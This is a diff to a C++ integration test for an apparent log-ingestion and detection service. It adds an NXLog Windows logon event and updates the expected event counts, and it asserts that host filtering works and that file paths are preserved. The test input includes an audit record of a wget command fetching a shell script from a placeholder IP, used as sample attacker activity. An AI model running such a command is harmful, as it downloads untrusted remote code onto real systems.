@@ -120,10 +120,12 @@ TEST_F(IngestTest, EveryIntakeStoresSearchableEventsAndRulesFire) {
     const std::string ndjson =
         "type=EXECVE msg=audit(1763712915.123:77): argc=3 a0=\"wget\" a1=\"-q\" "
         "a2=\"http://203.0.113.9/x.sh\"\n"
-        "{\"message\":\"hello from the intake\",\"app\":\"payments\"}\n";
+        "{\"message\":\"hello from the intake\",\"app\":\"payments\"}\n"
+        // NXLog's shape: the machine is its Hostname, not the collector that posted it.
+        "{\"Hostname\":\"WS-07\",\"EventID\":4624,\"Channel\":\"Security\"}\n";
     HttpReply intake = PostEvents(token, ndjson);
     ASSERT_EQ(intake.status, 202) << intake.body;
-    EXPECT_EQ(Json(intake)["accepted"], 2);
+    EXPECT_EQ(Json(intake)["accepted"], 3);
     // A token without the scope is refused.
     HttpReply r =
         Send("POST", "/api/v1/tokens",
@@ -134,12 +136,12 @@ TEST_F(IngestTest, EveryIntakeStoresSearchableEventsAndRulesFire) {
                   .status,
               403);
 
-    // Wait until the tailer has polled and everything is stored (14 messages in all).
+    // Wait until the tailer has polled and everything is stored (15 messages in all).
     Browser analyst = FullSession("analyst", auth::Role::kAnalyst);
     for (int i = 0; i < 200; ++i) {
         if (app_->WaitIngestIdle(100ms)) {
             HttpReply s = Get("/api/v1/events?since=2000-01-01T00:00:00Z&limit=500", &analyst);
-            if (s.status == 200 && Json(s)["items"].size() >= 14) break;
+            if (s.status == 200 && Json(s)["items"].size() >= 15) break;
         }
         std::this_thread::sleep_for(50ms);
     }
@@ -152,7 +154,7 @@ TEST_F(IngestTest, EveryIntakeStoresSearchableEventsAndRulesFire) {
     EXPECT_EQ(by_source["syslog-udp"], 3);
     EXPECT_EQ(by_source["syslog-tls"], 2);
     EXPECT_EQ(by_source["web-files"], 1);
-    EXPECT_EQ(by_source["http"], 2);
+    EXPECT_EQ(by_source["http"], 3);
 
     // Field filters and full text over the API.
     r = Get("/api/v1/events?since=2000-01-01T00:00:00Z&f.host=bastion-udp", &analyst);
@@ -171,6 +173,12 @@ TEST_F(IngestTest, EveryIntakeStoresSearchableEventsAndRulesFire) {
     ASSERT_EQ(Json(r)["items"].size(), 1u) << r.body;
     EXPECT_EQ(Json(r)["items"][0]["host"], "web01");
     EXPECT_EQ(Json(r)["items"][0]["logsource"]["categories"][0], "webserver");
+    // A tailed line keeps the file it came from.
+    EXPECT_EQ(Json(r)["items"][0]["fields"]["log"]["file"]["path"],
+              (dir_ / "tailed" / "access.log").string())
+        << r.body;
+    r = Get("/api/v1/events?since=2000-01-01T00:00:00Z&f.host=WS-07", &analyst);
+    EXPECT_EQ(Json(r)["items"].size(), 1u) << r.body;
 
     // Detections: the SSH failures from every syslog transport (11 from 203.0.113.7) are
     // counted by the brute-force correlation (5 in 5 minutes per source_ip), which fires with
